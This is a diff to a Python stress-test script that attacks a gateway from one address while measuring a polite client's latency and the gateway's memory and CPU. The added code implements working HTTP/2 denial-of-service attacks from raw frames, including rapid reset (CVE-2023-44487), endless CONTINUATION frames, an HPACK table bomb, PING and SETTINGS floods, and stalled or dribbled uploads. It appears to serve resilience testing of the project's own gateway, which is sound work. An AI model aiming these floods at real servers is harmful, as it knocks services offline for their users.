@@ -1,8 +1,9 @@
 """Abuses the gateway from one address while a polite client works from another.
 
-abuse.py JOB: a JSON file {"address", "port", "authority", "host", "pid", "abuse", "seconds"}. Prints one JSON object:
-{"polite", "lost", "p50_ms", "p99_ms", "rss_before", "rss_peak", "cpu_seconds", "seconds", "attempts", "refused"}. Bytes for
-memory; `cpu_seconds` is what the gateway used meanwhile.
+abuse.py JOB: a JSON file {"address", "port", "authority", "host", "pid", "abuse", "seconds"}, and where they differ from the
+tests' "holders" (connections at once) and "large" (the path of a large answer). Prints one JSON object: {"polite", "lost", "p50_ms", "p99_ms",
+"quiet_p99_ms", "rss_before", "rss_peak", "cpu_seconds", "seconds", "attempts", "refused"}. Bytes for memory;
+`cpu_seconds` is what the gateway used meanwhile, `quiet_p99_ms` the polite client's in the second before.
 """
 
 import json
@@ -20,9 +21,9 @@ ended = threading.Event()
 counts = {"attempts": 0, "refused": 0}
 
 
-def context():
+def context(protocol="http/1.1"):
     made = ssl.create_default_context(cafile=job["authority"])
-    made.set_alpn_protocols(["http/1.1"])
+    made.set_alpn_protocols([protocol])
     return made
 
 
@@ -30,13 +31,13 @@ def plain(source, timeout=10):
     return socket.create_connection((job["address"], job["port"]), timeout=timeout, source_address=(source, 0))
 
 
-def secure(source, timeout=10):
+def secure(source, timeout=10, trust=None):
     connection = plain(source, timeout)
     connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-    return trusting.wrap_socket(connection, server_hostname=job["host"])
+    return (trust or trusting).wrap_socket(connection, server_hostname=job["host"])
 
 
-trusting = context()
+trusting, trusting_h2 = context(), context("h2")
 HEAD = ("Host: %s\r\n" % job["host"]).encode()
 
 
@@ -130,9 +131,12 @@ def never_reading():
         connection.bind((ABUSER, 0))
         connection.connect((job["address"], job["port"]))
         one = trusting.wrap_socket(connection, server_hostname=job["host"])
-        one.sendall(b"POST /large HTTP/1.1\r\n" + HEAD + b"Content-Length: 400000\r\n\r\n" + b"x" * 400000)
+        if "large" in job:
+            one.sendall(b"GET " + job["large"].encode() + b" HTTP/1.1\r\n" + HEAD + b"\r\n")
+        else:
+            one.sendall(b"POST /large HTTP/1.1\r\n" + HEAD + b"Content-Length: 400000\r\n\r\n" + b"x" * 400000)
         return one
-    hold(60, begin)
+    hold(job.get("holders", 60), begin)
 
 
 def large_heads():
@@ -175,6 +179,112 @@ def forged_cookies():
                 break
         connection.close()
     run([lambda: [attempt(one) for _ in iter(ended.is_set, True)]] * 2)
+
+
+# HTTP/2 (RFC 9113). Field lines go out as literals without a name from the tables (RFC 7541 section 6.2.2).
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+END_STREAM, END_HEADERS = 1, 4
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def literal(name, value):
+    return b"".join([b"\0", bytes([len(name)]), name.encode(), bytes([len(value)]), value.encode()])
+
+
+def request(path, method="GET"):
+    pairs = [(":method", method), (":scheme", "https"), (":authority", job["host"]), (":path", path)]
+    return b"".join(literal(*pair) for pair in pairs)
+
+
+def multiplexed(settings=b"", timeout=2):
+    one = secure(ABUSER, timeout, trusting_h2)
+    one.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
+    return one
+
+
+def floods(make):
+    """What `make` gives, again and again on each of two connections, without reading an answer."""
+    def one():
+        connection = multiplexed()
+        try:
+            number = 0
+            while not ended.is_set():
+                connection.sendall(make(number))
+                number += 1
+        finally:
+            connection.close()
+    run([lambda: [attempt(one) for _ in iter(ended.is_set, True)]] * 2)
+
+
+def h2_rapid_reset():
+    """Requests that are taken back at once (CVE-2023-44487)."""
+    def make(number):
+        streams = range(200 * number + 1, 200 * number + 201, 2)
+        return b"".join(
+            frame(HEADERS, END_STREAM | END_HEADERS, stream, request("/slow"))
+            + frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in streams)
+    floods(make)
+
+
+def h2_continuation():
+    """A head that never ends (CVE-2024-27983 and its kin)."""
+    floods(lambda number: (frame(HEADERS, END_STREAM, 1, request("/")) if number == 0 else b"")
+           + frame(CONTINUATION, 0, 1, literal("x-more", "y" * 100) * 20) * 20)
+
+
+def h2_hpack_bomb():
+    """One large line in the table, and heads that name it thousands of times."""
+    def make(number):
+        if number == 0:
+            # RFC 7541 section 6.2.1: kept in the table, where it is entry 62.
+            kept = b"\x40\x01x" + b"\x7f" + (3000 - 127 & 0x7f | 0x80).to_bytes(1, "big") \
+                + (3000 - 127 >> 7).to_bytes(1, "big") + b"y" * 3000
+            return frame(HEADERS, END_STREAM | END_HEADERS, 1, request("/") + kept)
+        return frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, request("/") + b"\xbe" * 15000)
+    floods(make)
+
+
+def h2_pings():
+    floods(lambda _: frame(PING, 0, 0, b"12345678") * 500)
+
+
+def h2_settings():
+    floods(lambda _: frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 500)
+
+
+def h2_zero_window():
+    """A hundred answers on each connection, none of which may be sent."""
+    def begin():
+        one = multiplexed(b"\0\x04\0\0\0\0")
+        for stream in range(1, 201, 2):
+            one.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, request(job.get("large", "/large"))))
+        return one
+    hold(job.get("holders", 30), begin)
+
+
+def h2_data_dribble():
+    """A hundred uploads on each connection, a byte at a time."""
+    def begin():
+        one = multiplexed()
+        for stream in range(1, 201, 2):
+            one.sendall(frame(HEADERS, END_HEADERS, stream, request("/slow", "POST")))
+        return one
+    hold(20, begin, lambda one: one.sendall(b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 201, 2))))
+
+
+def h2_stalled_uploads():
+    """A hundred uploads on each connection, as much of each as the window allows, and not a byte more."""
+    def begin():
+        one = multiplexed()
+        for stream in range(1, 201, 2):
+            one.sendall(frame(HEADERS, END_HEADERS, stream, request("/slow", "POST")))
+        one.sendall(b"".join(frame(DATA, 0, 1 + 2 * (number % 100), b"x" * 600) for number in range(100)))
+        return one
+    hold(job.get("holders", 30), begin)
 
 
 def run(bodies):
@@ -239,7 +349,9 @@ def polite(kept, until, latencies, lost):
 
 def main():
     kept = secure(POLITE)
-    polite(kept, time.monotonic() + 1, [], [])
+    quiet = []
+    polite(kept, time.monotonic() + 1, quiet, [])
+    quiet.sort()
     before, used = memory(), processor()
     abuser = threading.Thread(target=globals()[job["abuse"]], daemon=True)
     peak, latencies, lost = [before], [], []
@@ -271,6 +383,7 @@ def main():
         "polite": len(latencies), "lost": lost,
         "p50_ms": round(latencies[len(latencies) // 2] * 1000, 1),
         "p99_ms": round(latencies[int(len(latencies) * 0.99)] * 1000, 1),
+        "quiet_p99_ms": round(quiet[int(len(quiet) * 0.99)] * 1000, 1),
         "rss_before": before, "rss_peak": max(peak), "cpu_seconds": round(spent, 2), "seconds": round(elapsed, 2),
     } | counts, sys.stdout)
 
